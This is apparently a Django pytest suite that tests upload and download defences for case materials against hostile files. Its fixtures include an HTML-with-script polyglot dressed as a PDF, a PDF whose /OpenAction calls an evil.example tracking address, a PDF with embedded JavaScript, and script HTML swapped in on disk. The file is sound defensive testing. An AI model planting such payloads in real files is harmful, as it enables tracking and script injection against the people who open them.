"""Materials as an attacker would send them: a web page dressed as a PDF, PDFs that run
something when opened, a name that lies about the type, a file changed on disk."""

from __future__ import annotations

import hashlib
import uuid
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from rest_framework.test import APIClient

from talentport.cases import services
from talentport.cases.models import MaterialFile
from tests.cases.conftest import AFTER_ITEMS, FORM
from tests.common.pdfs import plain

pytestmark = pytest.mark.django_db

#: PDF magic bytes, then a web page: what a browser would run if told it is HTML.
EVIL_HTML = b"%PDF-1.4\n<html><body><script>fetch('/api/v1/me/')</script></body></html>\n"
#: Opens a tracking address the moment the file is opened.
OPEN_ACTION = plain(b"/OpenAction<</S/URI/URI(http://evil.example/seen?by=staff)>>")
JAVASCRIPT = plain(b"/Names<</JavaScript<</Names[(a) 4 0 R]>>>>", b"<</S/JavaScript/JS(1)>>")
SANDBOX = "sandbox; default-src 'none'"


def api(user: Any) -> APIClient:
    client = APIClient()
    client.force_authenticate(user)
    return client


def page(user: Any) -> Client:
    client = Client()
    client.force_login(user)
    return client


def stored_before_the_checks(owner: Any, filename: str, content: bytes) -> MaterialFile:
    """A material as the platform stored it before uploads were checked against names."""
    public_id = uuid.uuid4()
    relative = Path("cases") / str(owner.uuid) / f"{public_id}.pdf"
    target = Path(settings.MEDIA_ROOT) / relative
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_bytes(content)
    return MaterialFile.objects.create(
        uuid=public_id,
        owner=owner,
        uploaded_by=owner,
        code="passport",
        filename=filename,
        kind="pdf",
        size=len(content),
        sha256=hashlib.sha256(content).hexdigest(),
        path=str(relative),
    )


def assert_sandboxed_pdf_attachment(response: Any) -> None:
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith("attachment;")
    assert 'filename="evil.pdf"' in response["Content-Disposition"]
    assert ".html" not in response["Content-Disposition"]
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == SANDBOX


def test_pdf_magic_with_html_body_named_evil_html_downloads_as_a_sandboxed_pdf(
    person: Any,
) -> None:
    # given: a web page behind PDF magic bytes, stored under the name evil.html
    material = stored_before_the_checks(person, "evil.html", EVIL_HTML)
    # when: it is downloaded through the API and through the page
    from_api = api(person).get(f"/api/v1/materials/{material.uuid}/download/")
    from_page = page(person).get(f"/cases/materials/{material.uuid}/")
    # then: the type detected from the bytes, never text/html; an attachment, sandboxed
    assert_sandboxed_pdf_attachment(from_api)
    assert_sandboxed_pdf_attachment(from_page)
    assert from_api.content == EVIL_HTML


def test_chinese_file_name_is_encoded_in_the_download(person: Any) -> None:
    # given
    f = services.material_upload(
        owner=person, actor=person, code="passport", filename="护照首页.pdf", content=plain()
    )
    # when
    response = api(person).get(f"/api/v1/materials/{f.uuid}/download/")
    # then
    assert response.status_code == 200
    assert response["Content-Disposition"] == (
        "attachment; filename=\"download.pdf\"; filename*=UTF-8''"
        "%E6%8A%A4%E7%85%A7%E9%A6%96%E9%A1%B5.pdf"
    )


@pytest.mark.parametrize(
    "filename, content, words",
    [
        ("evil.html", EVIL_HTML, "扩展名 .html 不符"),
        ("photo.pdf", b"\x89PNG\r\n\x1a\n" + b"\x00" * 32, "文件内容是 PNG"),
        ("open.pdf", OPEN_ACTION, "/OpenAction"),
        ("script.pdf", JAVASCRIPT, "/JavaScript"),
    ],
)
def test_api_upload_refuses_with_a_chinese_400_on_the_file_field(
    person: Any, filename: str, content: bytes, words: str
) -> None:
    # when
    response = api(person).post(
        "/api/v1/materials/",
        {"code": "passport", "file": SimpleUploadedFile(filename, content)},
        format="multipart",
    )
    # then
    assert response.status_code == 400
    [error] = response.json()["errors"]
    assert error["field"] == "file" and words in error["message"]
    assert not MaterialFile.objects.exists()
    assert not any(Path(settings.MEDIA_ROOT).rglob("*.pdf"))


def test_application_page_shows_the_refusal_next_to_the_file_input(
    bundles: Any, person: Any
) -> None:
    # given: a draft application
    application, _ = services.application_create(
        bundle=bundles["weihai-study-abroad"],
        stage="after",
        applicant=person,
        actor=person,
        selected_items=AFTER_ITEMS,
        form_data=FORM,
    )
    # when: a PDF that runs JavaScript on opening is uploaded as the passport
    response = page(person).post(
        f"/cases/applications/{application.uuid}/",
        {"op": "upload", "code": "passport", "file": SimpleUploadedFile("p.pdf", OPEN_ACTION)},
    )
    # then: 400, the page again, the reason next to the passport's file input
    assert response.status_code == 400
    html = response.content.decode()
    error_at = html.index('id="file-error-passport"')
    assert html.index('id="file-passport"') < error_at
    assert "PDF 含有脚本" in html[error_at : error_at + 300]
    assert not application.materials.exists()


def test_stored_file_changed_on_disk_is_refused_not_served(person: Any) -> None:
    # given: an uploaded PDF, then replaced on disk by a web page
    f = services.material_upload(
        owner=person, actor=person, code="passport", filename="p.pdf", content=plain()
    )
    services.material_path(material=f).write_bytes(b"<html><script>alert(1)</script></html>")
    # when
    from_api = api(person).get(f"/api/v1/materials/{f.uuid}/download/")
    from_page = page(person).get(f"/cases/materials/{f.uuid}/")
    # then
    assert from_api.status_code == 409
    assert from_api.json()["errors"][0]["code"] == "file_integrity"
    assert from_page.status_code == 409
    assert b"<script>" not in from_page.content


def test_stored_pdf_with_an_action_from_before_the_checks_is_refused(person: Any) -> None:
    # given: a PDF with an /OpenAction script, stored before uploads were scanned
    material = stored_before_the_checks(person, "old.pdf", OPEN_ACTION)
    # when
    response = api(person).get(f"/api/v1/materials/{material.uuid}/download/")
    # then
    assert response.status_code == 409


def test_media_is_kept_in_the_test_data_directory(person: Any, tmp_path_factory: Any) -> None:
    f = services.material_upload(
        owner=person, actor=person, code="passport", filename="p.pdf", content=plain()
    )
    stored = services.material_path(material=f).resolve()
    repository = Path(__file__).resolve().parents[2]
    assert repository not in stored.parents
    assert tmp_path_factory.getbasetemp().resolve() in stored.parents
